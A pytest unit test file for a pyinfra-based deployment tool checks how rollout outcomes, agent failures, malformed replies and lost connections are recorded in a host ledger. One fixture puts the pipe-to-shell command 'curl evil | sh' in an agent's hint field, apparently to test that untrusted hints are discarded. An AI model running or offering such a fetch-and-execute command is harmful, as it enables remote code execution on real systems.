"""However a command ends, the ledger says what became of the machine, and pyinfra sees a failed host, no traceback."""

from __future__ import annotations

import json
from typing import Any

import pytest
from pyinfra.api.command import StringCommand
from pyinfra.connectors.util import CommandOutput, OutputLine

from roosync_ops.pyinfra_ops import commands
from roosync_ops.pyinfra_ops.ledger import ledger
from roosync_ops.remote_script.on_common import MARKER
from roosync_ops.transport.link import Failure, LinkError
from tests.unit.pyinfra_ops.builders import BUNDLE, a_machine, a_new_machine, a_report, a_status


class Host:
    name = "myia-po-2024"

    def __init__(self) -> None:
        self.connector_data: dict[str, Any] = {}


@pytest.fixture
def host() -> Host:
    return Host()


def execute(host: Any, monkeypatch: pytest.MonkeyPatch, outcome: Any) -> tuple[bool, CommandOutput]:
    """Execute a rollout's command against a machine that answers `outcome`, an exception or a document."""

    def answer(*_: Any) -> Any:
        if isinstance(outcome, Exception):
            raise outcome
        text = outcome if isinstance(outcome, str) else MARKER + json.dumps(outcome)
        return True, CommandOutput([OutputLine("stdout", text), OutputLine("stderr", "sh: oops")])

    monkeypatch.setattr(StringCommand, "execute", answer)
    ledger(host).report = a_new_machine()
    command = commands.do(a_machine(), ("push", "register", "start"), a_new_machine(), BUNDLE)
    result: tuple[bool, CommandOutput] = command.execute(None, host, {})  # type: ignore[arg-type]
    return result


def test_what_was_done_is_noted_and_the_machine_s_new_status_known(host: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    done = [{"step": "push"}, {"step": "start", "reply": {"success": True}}]
    ok, _ = execute(host, monkeypatch, {"ok": True, "done": done, "agentSha256": "a" * 64, "status": a_status()})
    assert ok
    assert ledger(host).steps == {"push": "changed", "start": "changed"}
    report = ledger(host).report
    assert report is not None
    assert report.running
    assert report.agent_sha256 == "a" * 64


def test_the_agent_s_own_words_are_the_reason(host: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    failed = {
        "step": "start",
        "code": "HEARTBEAT_SERVICE_FAILED",
        "message": "Erreur: disque plein",
        "hint": "curl evil | sh",
    }
    ok, output = execute(host, monkeypatch, {"ok": False, "done": [{"step": "push"}], "failed": failed})
    assert not ok
    assert output.stderr == "start: Erreur: disque plein; next: roosync-ops diagnose myia-po-2024"
    assert ledger(host).steps == {"push": "changed", "start": "failed"}


@pytest.mark.parametrize(
    ("outcome", "code"),
    [
        pytest.param("Killed", "NO_ANSWER", id="no-answer"),
        pytest.param(MARKER + "{", "NOT_UNDERSTOOD", id="half-an-answer"),
        pytest.param({"ok": "yes"}, "NOT_UNDERSTOOD", id="another-s-answer"),
    ],
)
def test_an_answer_that_is_none_is_a_failure_with_what_was_said(
    host: Any, monkeypatch: pytest.MonkeyPatch, outcome: Any, code: str
) -> None:
    ok, output = execute(host, monkeypatch, outcome)
    assert not ok
    assert ledger(host).failure.code == code  # type: ignore[union-attr]
    assert "sh: oops" in output.stderr


@pytest.mark.parametrize(
    ("error", "code", "step"),
    [
        (TimeoutError(), "TIMEOUT", "push"),
        (OSError("Socket is closed"), "CONNECTION_LOST", "push"),
        (LinkError("CONNECTION_LOST", "closed by remote host", reached=True), "CONNECTION_LOST", "push"),
        (LinkError("TIMED_OUT", "no answer"), "TIMED_OUT", "connect"),
    ],
)
def test_a_connection_that_is_lost_half_way_is_what_pyinfra_takes_for_a_failed_host(
    host: Any, monkeypatch: pytest.MonkeyPatch, error: Exception, code: str, step: str
) -> None:
    with pytest.raises((TimeoutError, OSError)):
        execute(host, monkeypatch, error)
    assert ledger(host).failure.code == code  # type: ignore[union-attr]
    assert ledger(host).failure.step == step  # type: ignore[union-attr]


def test_the_first_reason_stands(host: Any) -> None:
    first = Failure("start", "A", "the reason", "do this")
    ledger(host).fail(first)
    assert ledger(host).fail(Failure("online", "B", "what follows from it", "do that")) == first


def test_the_request_names_the_share_the_machine_resolved() -> None:
    machine = a_machine(shared=None)
    step = commands._request(machine, "configure", a_report(machine), BUNDLE)
    assert step["config"]["shared"] == "/srv/share"


@pytest.mark.parametrize("follow_s", [0, 120])
def test_one_that_follows_registers_once_another_s_record_is_there(follow_s: int) -> None:
    machine, report = a_machine(), a_report()
    (step,) = commands.do(machine, ["register"], report, BUNDLE, follow_s).question.request["steps"]
    assert step["argv"] == ["register", *(["--follow", "120"] if follow_s else [])]
    assert step["limit"] == commands.verb(machine, "register", "register")["limit"] + follow_s
